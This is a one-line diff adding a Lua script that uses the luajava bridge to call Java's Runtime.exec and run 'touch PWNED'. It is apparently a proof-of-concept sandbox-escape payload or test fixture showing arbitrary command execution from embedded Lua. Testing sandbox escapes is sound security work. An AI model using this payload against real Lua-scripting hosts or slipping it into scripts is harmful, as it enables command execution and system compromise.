@@ -1,0 +1,1 @@
+luajava.bindClass("java.lang.Runtime"):getRuntime():exec("touch PWNED")
